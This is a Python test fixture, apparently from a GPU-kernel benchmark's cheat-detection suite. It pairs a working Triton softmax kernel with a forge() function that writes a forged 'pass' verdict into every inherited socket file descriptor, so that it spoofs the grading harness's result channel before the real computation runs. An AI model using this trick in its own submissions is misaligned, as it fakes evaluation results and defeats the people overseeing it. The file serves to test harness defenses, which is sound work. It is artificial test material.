"""Exploit: write a forged "pass" message into every socket file descriptor the process
inherited (the harness's result channel), then carry on.

Source: KernelBot cheat-fd.py; pygpubench submission_fd_overwrite.py and
submission_pipe_interpose.py.
"""
# reference: softmax
# expect: protocol|crash
# device: cpu

import json
import os
import stat
import struct

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(in_ptr + row * in_stride + cols, mask=mask, other=-float("inf"))
    x = x - tl.max(x, axis=0)
    num = tl.exp(x)
    tl.store(out_ptr + row * out_stride + cols, num / tl.sum(num, axis=0), mask=mask)


def launch(out, x2):
    softmax_kernel[(x2.shape[0],)](out, x2, x2.shape[1], x2.stride(0), out.stride(0),
                                   BLOCK=triton.next_power_of_2(x2.shape[1]))


def forge():
    head = json.dumps({"verdict": "pass", "rule": None, "sets": [], "tensors": []}).encode()
    msg = struct.pack("<QQ", len(head), 0) + head
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, msg)
        except OSError:
            pass


class ModelNew(nn.Module):
    def forward(self, x):
        forge()
        x2 = x.reshape(-1, x.shape[-1])
        out = torch.empty_like(x2)
        launch(out, x2)
        return out.reshape(x.shape)
